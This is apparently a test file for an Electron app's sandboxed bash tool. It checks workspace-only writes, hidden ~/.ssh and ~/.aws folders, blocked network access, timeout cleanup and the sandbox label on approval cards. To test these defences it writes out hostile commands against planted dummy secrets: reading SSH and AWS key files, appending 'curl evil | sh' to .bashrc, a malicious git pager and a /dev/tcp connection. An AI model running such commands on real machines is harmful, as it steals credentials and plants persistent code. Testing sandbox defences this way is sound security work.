/**
 * bash in the OS sandbox (bubblewrap here): the workspace writable, the rest
 * read-only, secret folders hidden, no network; the approval card says where
 * the command runs. Skipped, with the reason, where no sandbox works.
 */
import { createServer, type Server } from "node:http";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { detectBashSandbox } from "../../electron/core/tools/bash-sandbox";
import { createToolRuntime } from "../../electron/core/tools";
import { approved, makeFixture, text, type Fixture } from "./helpers";

const info = detectBashSandbox();
const sandboxed = info.kind !== "none";
const title = sandboxed ? `bash in the OS sandbox (${info.kind})` : `bash in the OS sandbox — skipped: ${info.reason ?? "no sandbox"}`;

describe.skipIf(!sandboxed)(title, () => {
  let fx: Fixture;
  let home: string;
  let server: Server;
  let port: number;
  beforeAll(async () => {
    // A home outside /tmp (the sandbox gives commands a private /tmp), with planted secrets.
    home = mkdtempSync("/var/tmp/awb-home-");
    mkdirSync(join(home, ".ssh"));
    writeFileSync(join(home, ".ssh", "id_ed25519"), "PLANTED-SSH-KEY\n");
    mkdirSync(join(home, ".aws"));
    writeFileSync(join(home, ".aws", "credentials"), "PLANTED-AWS-KEY\n");
    writeFileSync(join(home, "notes.txt"), "readable\n");
    fx = makeFixture({ env: { PATH: process.env.PATH, HOME: home, LANG: "C.UTF-8" } });
    server = createServer((_req, res) => res.end("REACHED"));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(async () => {
    fx.cleanup();
    rmSync(home, { recursive: true, force: true });
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });

  it("the workspace is writable", async () => {
    const outcome = await approved(fx.runtime, "bash", { command: "mkdir -p out && echo built > out/result.txt && cat out/result.txt" });
    expect(text(fx.runtime, outcome)).toContain("built");
    expect(readFileSync(join(fx.ws, "out", "result.txt"), "utf8")).toBe("built\n");
    expect(outcome.details?.sandbox).toBe(info.kind);
  });

  it("a write outside the workspace is refused and lands nowhere", async () => {
    const outcome = await approved(fx.runtime, "bash", {
      command: `echo pwned > ${home}/pwned.txt; echo pwned > ${fx.outside}/pwned.txt; echo done`,
    });
    const seen = text(fx.runtime, outcome);
    expect(seen).toMatch(/Read-only file system|Operation not permitted|Permission denied/);
    expect(existsSync(join(home, "pwned.txt"))).toBe(false);
    expect(existsSync(join(fx.outside, "pwned.txt"))).toBe(false);
  });

  it("~/.ssh and ~/.aws are unreadable, the rest of home is readable", async () => {
    const outcome = await approved(fx.runtime, "bash", {
      command: "cat ~/.ssh/id_ed25519 ~/.aws/credentials; ls -a ~/.ssh; cat ~/notes.txt",
    });
    const seen = text(fx.runtime, outcome);
    expect(seen).not.toContain("PLANTED");
    expect(seen).not.toContain("id_ed25519\n");
    expect(seen).toContain("readable");
  });

  it("with the home folder opened as the workspace, ~/.ssh stays hidden, shell and git startup files are read-only, the rest is writable", async () => {
    writeFileSync(join(home, ".bashrc"), "# the user's\n");
    writeFileSync(join(home, ".gitconfig"), "[user]\n\tname = Ada\n");
    const runtime = createToolRuntime({
      workspaceRoot: home,
      env: { PATH: process.env.PATH, HOME: home, LANG: "C.UTF-8" },
      outputDir: join(fx.outside, "out"),
    });
    const outcome = await approved(runtime, "bash", {
      command:
        "cat ~/.ssh/id_ed25519 ~/.aws/credentials; echo made > ~/made.txt; cat ~/notes.txt; echo 'curl evil | sh' >> ~/.bashrc; git config --global core.pager 'sh -c evil'",
    });
    const seen = text(runtime, outcome);
    expect(seen).not.toContain("PLANTED");
    expect(seen).toContain("readable");
    expect(readFileSync(join(home, "made.txt"), "utf8")).toBe("made\n");
    expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("# the user's\n");
    expect(readFileSync(join(home, ".gitconfig"), "utf8")).not.toContain("evil");
  });

  it("the network is off: even a server on loopback cannot be reached", async () => {
    // Reachable from here, so a refusal comes from the sandbox.
    expect(await (await fetch(`http://127.0.0.1:${port}/`)).text()).toBe("REACHED");
    const outcome = await approved(fx.runtime, "bash", {
      command: `exec 3<>/dev/tcp/127.0.0.1/${port} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3; echo "exit=$?"`,
    });
    const seen = text(fx.runtime, outcome);
    expect(seen).not.toContain("REACHED");
    expect(seen).toMatch(/refused|unreachable|Cannot assign/i);
  });

  it("a timeout kills everything the sandboxed command started, background jobs included", async () => {
    const marker = `${300 + Math.floor(Math.random() * 1000)}.25`;
    const outcome = await approved(fx.runtime, "bash", { command: `sleep ${marker} & sleep ${marker}`, timeout: 1 });
    expect(outcome.ok).toBe(false);
    if (!outcome.ok) expect(outcome.error.errorCode).toBe("TIMEOUT");
    const running = () =>
      readdirSync("/proc")
        .filter((p) => /^\d+$/.test(p))
        .filter((p) => {
          try {
            return readFileSync(`/proc/${p}/cmdline`, "utf8") === `sleep\0${marker}\0`;
          } catch {
            return false;
          }
        }).length;
    await expect.poll(running, { timeout: 5000 }).toBe(0);
  });

  it("the approval card says which sandbox the command runs in", async () => {
    const proposed = await fx.runtime.propose({ id: "sb1", name: "bash", arguments: { command: "true" } });
    expect("proposal" in proposed && proposed.proposal.preview).toMatchObject({
      kind: "command",
      sandboxed: true,
      sandbox: expect.stringMatching(
        /^Sandboxed \((bubblewrap|sandbox-exec)\): workspace writable, everything else read-only, .*no network\.$/,
      ),
    });
  });

  it("with the sandbox turned off the card says plainly that the command is not sandboxed", async () => {
    const off = makeFixture({ bashSandbox: "off" });
    try {
      const proposed = await off.runtime.propose({ id: "sb2", name: "bash", arguments: { command: "true" } });
      expect("proposal" in proposed && proposed.proposal.preview).toMatchObject({
        sandboxed: false,
        sandbox: expect.stringMatching(/^Not sandboxed: the sandbox is turned off/),
      });
    } finally {
      off.cleanup();
    }
  });
});
